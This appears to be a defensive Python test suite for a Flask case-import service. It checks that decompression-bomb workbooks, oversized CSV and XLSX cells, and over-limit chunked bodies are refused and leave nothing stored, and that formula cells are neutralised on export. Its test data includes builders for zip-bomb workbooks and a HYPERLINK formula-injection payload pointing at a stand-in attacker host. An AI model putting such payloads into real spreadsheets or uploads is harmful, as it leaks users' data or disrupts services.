"""Hostile uploads: small files that unpack to a great deal, and bodies over the limit. Each is refused with a 400 or
413 and a sentence naming what went over (at which row and column), before it is read whole, and nothing is kept:
no case, no member, no staged preview."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa
from flask import current_app
from openpyxl import Workbook
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from evaluation.accounts.models import Role
from evaluation.cases.importer import COLUMNS
from evaluation.cases.models import Case
from evaluation.extensions import db
from evaluation.org.models import DepartmentKind
from evaluation.tabular import MAX_ROWS
from panels.models import Member
from tests.conftest import make_department, make_user

CASE_HEADERS = [header for _, header, _ in COLUMNS]
EXAMPLE = [example for _, _, example in COLUMNS]
MEMBER_HEADERS = ["姓名", "身份", "所在单位编码", "区划代码", "擅长领域", "每批最多件数", "电子邮箱", "电话"]


def _xlsx(rows: list[list[object]], *, dimension: str | None = None, sheet_xml: str | None = None) -> bytes:
    """A workbook written by openpyxl, its sheet's <dimension> replaced (or removed, with ""), or the whole sheet
    replaced by hand-written XML, as a hostile file would be."""
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    if dimension is None and sheet_xml is None:
        return buffer.getvalue()
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                if sheet_xml is not None:
                    data = sheet_xml.encode()
                else:
                    replacement = f'<dimension ref="{dimension}"/>' if dimension else ""
                    data = re.sub(rb"<dimension [^>]*/>", replacement.encode(), data)
            target.writestr(info.filename, data)
    return out.getvalue()


def _sheet(rows_xml: str) -> str:
    return (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f"{rows_xml}</sheetData></worksheet>"
    )


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _csv(rows: list[list[str]]) -> bytes:
    return "\r\n".join(",".join(row) for row in rows).encode()


def _case_row(n: int) -> list[str]:
    row = list(EXAMPLE)
    row[CASE_HEADERS.index("工单编号")] = f"H-{n:05d}"
    return row


HEADER_XML = (
    '<row r="1">' + "".join(_inline(f"{chr(65 + i)}1", h) for i, h in enumerate(MEMBER_HEADERS)) + "</row>"
)

HOSTILE_FILES = [
    # (what, filename, a function of the header row giving the bytes, words of the Chinese sentence)
    (
        "a declared dimension of a million rows by 16,384 columns",
        "huge.xlsx",
        lambda header: _xlsx([header], dimension="A1:XFD1048576"),
        "1048576 行 × 16384 列",
    ),
    (
        "one cell a million rows down, the sheet not declaring its size",
        "gap.xlsx",
        lambda header: _xlsx(
            [header], sheet_xml=_sheet(HEADER_XML + f'<row r="1048576">{_inline("A1048576", "x")}</row>')
        ),
        "空行超过 10000 行",
    ),
    (
        "a row 16,000 columns wide",
        "wide.xlsx",
        lambda header: _xlsx(
            [header],
            sheet_xml=_sheet(
                HEADER_XML
                + '<row r="2">'
                + "".join(f'<c r="{_column(i)}2"><v>1</v></c>' for i in range(1, 16001))
                + "</row>"
            ),
        ),
        "第 2 行超过 100 列",
    ),
    (
        "a cell of 40,000 characters",
        "cell.xlsx",
        lambda header: _xlsx(  # by hand: openpyxl itself cuts a cell to Excel's limit when it writes one
            [header], sheet_xml=_sheet(HEADER_XML + f'<row r="2">{_inline("A2", "长" * 40000)}</row>')
        ),
        "第 2 行 A 列的单元格超过 32767 个字符",
    ),
    (
        "a workbook that unpacks to 40 MB",
        "bomb.xlsx",
        lambda header: _xlsx(
            [header], sheet_xml=_sheet(HEADER_XML + "<!--" + " " * (40 * 1024 * 1024) + "-->")
        ),
        "解压后超过 32 MB",
    ),
    (
        "a damaged workbook",
        "broken.xlsx",
        lambda header: b"PK\x03\x04 not a zip",
        "无法将该文件读取为 Excel 工作簿",
    ),
    (
        "a CSV cell past the csv module's limit",
        "field.csv",
        lambda header: _csv([header, ['"' + "长" * 200_000 + '"']]),
        "第 2 行无法读取",
    ),
    (
        "a CSV cell of 40,000 characters",
        "cell.csv",
        lambda header: _csv([header, ["长" * 40000]]),
        "超过 32767 个字符",
    ),
    (
        "a CSV row of 200 columns",
        "wide.csv",
        lambda header: _csv([header, ["1"] * 200]),
        "第 2 行超过 100 列",
    ),
]


def _column(index: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(index)


@pytest.fixture
def organizer(client, auth):
    make_department("CD-ZJ", "成都市住房和城乡建设局")
    make_department("CD-GA", "成都市公安局")
    make_department("D-510107", "武侯区人民政府", DepartmentKind.DISTRICT)
    make_user("org", Role.ORGANIZER)
    auth.login("org")
    return client


def _post_file(client, url: str, data: bytes, filename: str):
    """The multipart body encoded here, in memory: the test client spools a large one to a temporary file of
    its own and leaves it open."""
    boundary, body = encode_multipart({"file": FileStorage(io.BytesIO(data), filename)})
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def _staged() -> list[Path]:
    return list((Path(current_app.instance_path) / "imports").glob("*.bin"))


@pytest.mark.parametrize(("what", "filename", "build", "words"), HOSTILE_FILES)
def test_a_hostile_case_file_is_refused_in_words_and_nothing_is_kept(
    organizer, what, filename, build, words
) -> None:
    before = _staged()
    response = _post_file(organizer, "/cases/import", build(CASE_HEADERS), filename)
    assert response.status_code == 400, what
    assert words in response.get_data(as_text=True), what
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Case)) == 0
    assert _staged() == before


@pytest.mark.parametrize(("what", "filename", "build", "words"), HOSTILE_FILES)
def test_a_hostile_member_file_is_refused_in_words_and_nothing_is_kept(
    organizer, what, filename, build, words
) -> None:
    response = _post_file(organizer, "/panels/members/import", build(MEMBER_HEADERS), filename)
    assert response.status_code == 400, what
    assert words in response.get_data(as_text=True), what
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Member)) == 0


def test_a_file_one_row_over_the_limit_names_the_limit(organizer) -> None:
    rows = [_case_row(n) for n in range(MAX_ROWS + 1)]
    response = _post_file(organizer, "/cases/import", _xlsx([CASE_HEADERS, *rows]), "many.xlsx")
    assert response.status_code == 400 and f"一个文件最多 {MAX_ROWS} 行" in response.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Case)) == 0


def test_blank_rows_keep_the_numbers_the_spreadsheet_shows(organizer) -> None:
    broken = _case_row(2)
    broken[CASE_HEADERS.index("受理时间")] = "not a date"
    workbook = _xlsx([CASE_HEADERS, _case_row(1), [], [], broken])
    response = _post_file(organizer, "/cases/import", workbook, "gaps.xlsx")
    page = response.get_data(as_text=True)
    assert "<td>5</td><td>受理时间</td>" in page  # the bad row is row 5, as Excel numbers it


# What a server that decodes chunked bodies (gunicorn, Werkzeug's) tells the app: the stream ends by itself, and its
# length is known only by reading it, against MAX_CONTENT_LENGTH as it goes.
CHUNKED = {"wsgi.input_terminated": True}


def test_a_chunked_body_over_the_limit_is_a_413(organizer, app) -> None:
    limit = app.config["MAX_CONTENT_LENGTH"]
    boundary = "hostile"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n'
            "Content-Type: text/csv\r\n\r\n"
        ).encode()
        + b"x" * (limit + 1024)
        + f"\r\n--{boundary}--\r\n".encode()
    )
    response = organizer.post(
        "/cases/import",
        input_stream=io.BytesIO(body),
        content_type=f"multipart/form-data; boundary={boundary}",
        headers={"Transfer-Encoding": "chunked"},
        environ_overrides=CHUNKED,
    )
    assert response.status_code == 413 and "上传内容超过平台允许的 20 MB" in response.get_data(as_text=True)
    assert _staged() == [] or all(p.stat().st_size < limit for p in _staged())


def test_a_chunked_api_body_over_the_limit_is_a_413_in_json(api, app, client) -> None:
    body = b'{"cases": [' + b" " * (app.config["EVALUATION_API_MAX_BYTES"] + 1024) + b"]}"
    response = client.post(
        "/api/v1/cases",
        input_stream=io.BytesIO(body),
        headers={**api.headers, "Content-Type": "application/json", "Transfer-Encoding": "chunked"},
        environ_overrides=CHUNKED,
    )
    assert response.status_code == 413 and response.get_json()["error"]["status"] == 413
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Case)) == 0


# --- formulas: taken in as text, never written out as something a spreadsheet would run -------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_a_formula_looking_cell_is_imported_as_the_text_it_is(organizer) -> None:
    import csv

    row = _case_row(1)
    row[CASE_HEADERS.index("诉求内容")] = FORMULAS[0]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([CASE_HEADERS, row])
    preview = _post_file(organizer, "/cases/import", buffer.getvalue().encode(), "f.csv")
    token = re.search(r'name="token" type="hidden" value="([^"]+)"', preview.get_data(as_text=True)).group(1)
    assert organizer.post("/cases/import/commit", data={"token": token}).status_code == 302
    case = db.session.scalar(sa.select(Case))
    assert case.request_text == FORMULAS[0]


def test_exports_neutralise_formulas_in_csv_and_xlsx() -> None:
    from openpyxl import load_workbook

    from evaluation.tabular import append_row, write_csv

    text = write_csv([["说明", "数"], *[[f, 7] for f in FORMULAS], ["普通文字", -5]]).decode("utf-8-sig")
    cells = [line.split(",", 1)[0] for line in text.splitlines()[1:]]
    assert all(c.lstrip('"').startswith("'") for c in cells[: len(FORMULAS)])
    assert "普通文字,-5" in text  # numbers and plain text untouched

    workbook = Workbook()
    for value in FORMULAS:
        append_row(workbook.active, [value, 7])
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    for (cell, number), value in zip(sheet.iter_rows(), FORMULAS, strict=True):
        assert cell.data_type == "s", value  # text, which Excel shows and does not run
        assert cell.value in (value, value.replace("\r", "\n"))
        assert number.value == 7
